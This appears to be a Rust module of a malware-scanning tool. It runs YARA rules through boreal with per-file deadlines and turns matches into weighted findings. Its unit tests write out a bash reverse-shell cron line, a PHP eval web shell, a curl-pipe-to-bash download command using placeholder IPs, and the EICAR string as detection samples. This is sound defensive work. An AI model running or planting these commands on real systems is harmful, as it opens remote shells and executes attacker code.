//! YARA rules, through boreal: those of the library and our own.
//!
//! Rules are foreign programs: a regular expression can take for ever. boreal looks at its clock between matches but not within
//! one, so the rules of the library have a thread of their own that is waited for up to a deadline; when they miss it they are
//! given up for the rest of the command, and the thread ends when boreal returns.

mod compile;
mod pieces;
mod text;

use std::fs::File;
use std::panic::AssertUnwindSafe;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::mpsc::{Receiver, SyncSender, sync_channel};
use std::time::Duration;

use boreal::scanner::{EvaluatedRule, ScanError, ScanParams};
use boreal::{MetadataValue, Scanner};

use super::{Answer, Engine, Finding, Subject, Trouble, Whole, answer_within};
use crate::agent::context::{Meter, Stop};
use crate::agent::platform::{thread_cpu_since, thread_cpu_time};
pub use compile::{builtin, compile};
use pieces::{Outcome, Pieces};
use text::SIZE;

/// How long a set of rules may look at one thing: so long, and so much more for each megabyte.
const LOOK: Duration = Duration::from_secs(4);
const LOOK_A_MEGABYTE: Duration = Duration::from_secs(1);
/// How much longer it is waited for.
const GRACE: Duration = Duration::from_secs(10);
/// Rules that took too long so many times are given up.
const MAX_SLOW: u32 = 3;
/// What a rule weighs that does not say so itself.
const WEIGHT: u32 = 60;
/// The most findings of one thing.
const MAX_FINDINGS: usize = 200;

fn limits(bytes: u64) -> ScanParams {
    ScanParams::default().timeout_duration(Some(patience(bytes))).match_max_length(0).string_max_nb_matches(1000)
}

/// How long rules may look at so many bytes.
fn patience(bytes: u64) -> Duration {
    LOOK + LOOK_A_MEGABYTE * u32::try_from(bytes / 1_000_000).unwrap_or(u32::MAX)
}

/// What a look counts in, and is stopped by.
#[derive(Debug, Clone)]
pub struct Tally {
    /// The word to stop.
    pub stop: Stop,
    /// What it costs.
    pub meter: Arc<Meter>,
    /// Bytes that were looked at.
    pub done: Arc<AtomicU64>,
}

/// A set of rules as an engine.
pub struct Yara {
    name: &'static str,
    scanner: Scanner,
    tally: Tally,
    worker: Option<Worker>,
    /// Whether they are the library's: findings name the file that a rule stands in.
    named: bool,
    /// How many times they took too long.
    slow: u32,
}

/// What rules look at.
struct Job {
    start: Arc<Vec<u8>>,
    size: u64,
    /// The file, and how much of its data is read, where the start is not all.
    rest: Option<(File, u64)>,
}

struct Worker {
    jobs: SyncSender<Job>,
    answers: Receiver<Looked>,
}

type Looked = Result<Seen, String>;

/// What came of a look.
#[derive(Debug, Default, PartialEq, Eq)]
struct Seen {
    findings: Vec<Finding>,
    /// Whether it took too long, and ended before its end.
    slow: bool,
    /// What was not looked at, and why.
    passed_over: Vec<String>,
}

impl Job {
    fn bytes(&self) -> u64 {
        self.rest.as_ref().map_or(self.start.len() as u64, |(_, bound)| self.size.min(*bound))
    }
}

impl Yara {
    /// Our own rules.
    #[must_use]
    pub fn builtin(scanner: Scanner, tally: Tally) -> Self {
        Self { name: "builtin", scanner, tally, worker: None, named: false, slow: 0 }
    }

    /// The rules of the library.
    #[must_use]
    pub fn library(scanner: Scanner, tally: Tally) -> Self {
        Self { name: "yara", scanner, tally, worker: None, named: true, slow: 0 }
    }

    fn start(&self) -> Result<Worker, Trouble> {
        let (jobs, todo) = sync_channel::<Job>(1);
        let (done, answers) = sync_channel(1);
        let (mut scanner, tally, name, named) = (self.scanner.clone(), self.tally.clone(), self.name, self.named);
        let work = move || {
            while let Ok(job) = todo.recv() {
                let begun = thread_cpu_time();
                // The start is let go of before the answer: whoever hears it uses its room again.
                let looked = std::panic::catch_unwind(AssertUnwindSafe(|| look(&mut scanner, job, &tally, name, named)));
                let micros = thread_cpu_since(begun).as_micros();
                tally.meter.cpu_us.fetch_add(u64::try_from(micros).unwrap_or(u64::MAX), Ordering::Relaxed);
                let looked = looked.unwrap_or_else(|_| Err("boreal failed at it".to_owned()));
                if done.send(looked).is_err() {
                    break;
                }
            }
        };
        let started = std::thread::Builder::new().name("yara".into()).spawn(work);
        started.map_err(|error| Trouble::Gone(format!("no thread for the rules: {error}")))?;
        Ok(Worker { jobs, answers })
    }
}

fn look(scanner: &mut Scanner, job: Job, tally: &Tally, engine: &'static str, named: bool) -> Looked {
    scanner.set_scan_params(limits(job.bytes()));
    let size = i64::try_from(job.size).unwrap_or(i64::MAX);
    scanner.define_symbol(SIZE, size).map_err(|error| error.to_string())?;
    let mut seen = Seen::default();
    let (scanned, outcome) = match job.rest {
        None => (scanner.scan_mem(&job.start), None),
        Some((file, bound)) => {
            let outcome = Arc::new(Outcome::default());
            let pieces = Pieces::new(file, Arc::clone(&job.start), job.size, bound, tally.clone(), Arc::clone(&outcome));
            (scanner.scan_fragmented(pieces), Some((outcome, bound)))
        }
    };
    let found = match scanned {
        Ok(found) => found,
        Err((ScanError::Timeout, found)) => {
            seen.slow = true;
            found
        }
        Err((error, _)) => return Err(error.to_string()),
    };
    if let Some((outcome, bound)) = outcome {
        seen.passed_over = outcome.told(job.size, bound);
    }
    seen.findings = found.rules.iter().take(MAX_FINDINGS).map(|rule| finding(scanner, rule, engine, named)).collect();
    if found.rules.len() > MAX_FINDINGS {
        seen.passed_over.push(format!("{} rules match, of which {MAX_FINDINGS} are told", found.rules.len()));
    }
    Ok(seen)
}

fn finding(scanner: &Scanner, rule: &EvaluatedRule<'_>, engine: &'static str, named: bool) -> Finding {
    let (mut weight, mut description) = (None, None);
    for meta in rule.metadatas {
        match (scanner.get_string_symbol(meta.name), meta.value) {
            ("weight", MetadataValue::Integer(value)) => weight = Some(value),
            ("score", MetadataValue::Integer(value)) => weight = weight.or(Some(value)),
            ("description", MetadataValue::Bytes(text)) => {
                description =
                    Some(String::from_utf8_lossy(scanner.get_bytes_symbol(text)).chars().take(300).collect::<String>());
            }
            _ => {}
        }
    }
    let first = rule.matches.iter().filter_map(|found| {
        let first = found.matches.first()?;
        Some((first.base.saturating_add(first.offset), found.name))
    });
    let place = first.min().map(|(offset, name)| format!("${name} at byte {offset}"));
    let mut what = description.unwrap_or_else(|| "its content matches".to_owned());
    if let Some(place) = place {
        what = format!("{what} ({place})");
    }
    Finding {
        engine,
        rule: if named { format!("{}:{}", rule.namespace, rule.name) } else { rule.name.to_owned() },
        weight: weight.map_or(WEIGHT, |weight| u32::try_from(weight.clamp(0, 100)).unwrap_or(WEIGHT)),
        what,
        place: None,
    }
}

impl Engine for Yara {
    fn name(&self) -> &'static str {
        self.name
    }

    fn look(&mut self, _subject: &Subject<'_>, whole: &Whole<'_>, _found: &[Finding]) -> Answer {
        if whole.start.is_empty() {
            return Ok(Vec::new());
        }
        let failed = |error: std::io::Error| Trouble::Here(error.to_string());
        let rest = whole.rest.map(|rest| rest.file.try_clone().map(|file| (file, rest.bound))).transpose().map_err(failed)?;
        let job = Job { start: Arc::clone(&whole.start), size: whole.size, rest };
        let (bytes, patience) = (job.bytes(), patience(job.bytes()));
        let slow = || format!("its rules took more than {} s for {bytes} bytes", patience.as_secs());
        let looked = if self.named {
            let worker = match self.worker.take() {
                Some(worker) => worker,
                None => self.start()?,
            };
            worker.jobs.send(job).map_err(|_| Trouble::Gone("its thread is gone".to_owned()))?;
            // Rules that miss their deadline keep the content they have; the others look at it all the same.
            let Some(looked) = answer_within(&worker.answers, patience + GRACE, &self.tally.stop)? else {
                return Err(Trouble::Gone(format!("{} and are given up", slow())));
            };
            self.worker = Some(worker);
            looked
        } else {
            // Our own rules are known to end: no thread, which costs more than they do on small files.
            look(&mut self.scanner, job, &self.tally, self.name, self.named)
        };
        if self.tally.stop.asked() {
            return Err(Trouble::Stopped);
        }
        let seen = looked.map_err(Trouble::Here)?;
        for what in seen.passed_over {
            whole.pass_over(what);
        }
        if seen.slow {
            self.slow += 1;
            if self.slow >= MAX_SLOW {
                return Err(Trouble::Gone(format!("{}, and are given up", slow())));
            }
            if seen.findings.is_empty() {
                return Err(Trouble::Here(slow()));
            }
            // What was found by then is true all the same.
            whole.pass_over(format!("{}: {}", self.name, slow()));
        }
        Ok(seen.findings)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn look_at(scanner: &Scanner, bytes: &[u8]) -> Vec<Finding> {
        let job = Job { start: Arc::new(bytes.to_vec()), size: bytes.len() as u64, rest: None };
        let tally = Tally { stop: Stop::default(), meter: Arc::default(), done: Arc::default() };
        look(&mut scanner.clone(), job, &tally, "builtin", false).unwrap().findings
    }

    #[test]
    fn our_own_rules_compile_and_do_not_match_themselves() {
        let scanner = builtin().unwrap();
        assert!(scanner.rules().count() >= 6);
        let text = include_bytes!("../builtin.yar");
        let check = |bytes: &[u8]| look_at(&scanner, bytes);
        assert_eq!(check(text), []);
        assert_eq!(check(&[b"\x7fELF".as_slice(), &[0; 12], &[3, 0], text].concat()), []);
    }

    #[test]
    fn what_they_are_for_is_found() {
        let scanner = builtin().unwrap();
        let check = |text: &str, rule: &str, weight: u32| {
            let found = look_at(&scanner, text.as_bytes());
            assert_eq!(
                found.iter().map(|found| (found.rule.as_str(), found.weight)).collect::<Vec<_>>(),
                [(rule, weight)],
                "{text}"
            );
        };
        let eicar = [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS", "-TEST-FILE!$H+H*"].concat();
        check(&eicar, "eicar_test_file", 100);
        check(&format!("\x7fELF..{eicar}"), "eicar_test_file", 100);
        let dev = "dev";
        check(&format!("* * * * * root bash -i >& /{dev}/tcp/192.0.2.1/4444 0>&1"), "reverse_shell", 60);
        check(&format!("<?php @{}($_{}['x']); ?>", "eval", "POST"), "php_web_shell", 70);
        check(&format!("{} -s http://192.0.2.7/x.sh | bash", "curl"), "downloads_and_runs", 40);
        for clean in ["", "text", "echo /dev/tcp", "<?php echo $_POST['x']; ?>", "curl -sSf https://sh.rustup.rs | sh"] {
            assert_eq!(look_at(&scanner, clean.as_bytes()), [], "{clean}");
        }
    }
}
